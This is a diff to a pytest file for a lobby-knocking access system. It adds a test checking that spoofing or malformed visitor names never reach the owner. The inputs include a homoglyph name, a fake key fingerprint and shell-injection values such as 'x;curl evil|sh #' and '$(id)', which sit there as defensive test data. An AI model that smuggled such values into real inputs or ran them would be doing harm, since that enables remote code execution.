@@ -127,8 +127,26 @@ def test_a_stranger_on_the_lobby_waits_and_the_owner_is_told_once(host: HostMach
     waiting = Say(LOBBY.topic, Answer(mallory.sid, Reply.WAITING))
     knock = Knock("mallory", print_of("mallory"))
     assert host.asked(mallory, Ask("mallory"), LOBBY.topic, 0.0) == [Tell(knock), waiting]
-    assert host.asked(mallory, Ask("another name"), LOBBY.topic, 2.0) == [waiting]
+    assert host.asked(mallory, Ask("another-name"), LOBBY.topic, 2.0) == [waiting]
     assert host.knocks == (knock,)
+
+
+@pytest.mark.parametrize(
+    "name",
+    [
+        "",
+        "bob (expected)",
+        "b\u043eb",
+        "x;curl evil|sh #",
+        "bob knocks, with the key SHA256:A",
+        "$(id)",
+        "-x",
+        "b" * 51,
+    ],
+)
+def test_a_name_that_would_pass_for_something_else_does_not_reach_the_owner(host: HostMachine, name: str) -> None:
+    assert host.asked(certificate("mallory"), Ask(name), LOBBY.topic, 0.0) == []
+    assert host.knocks == ()
 
 
 def test_who_is_approved_gets_his_grant_in_each_session_that_asked(host: HostMachine) -> None:
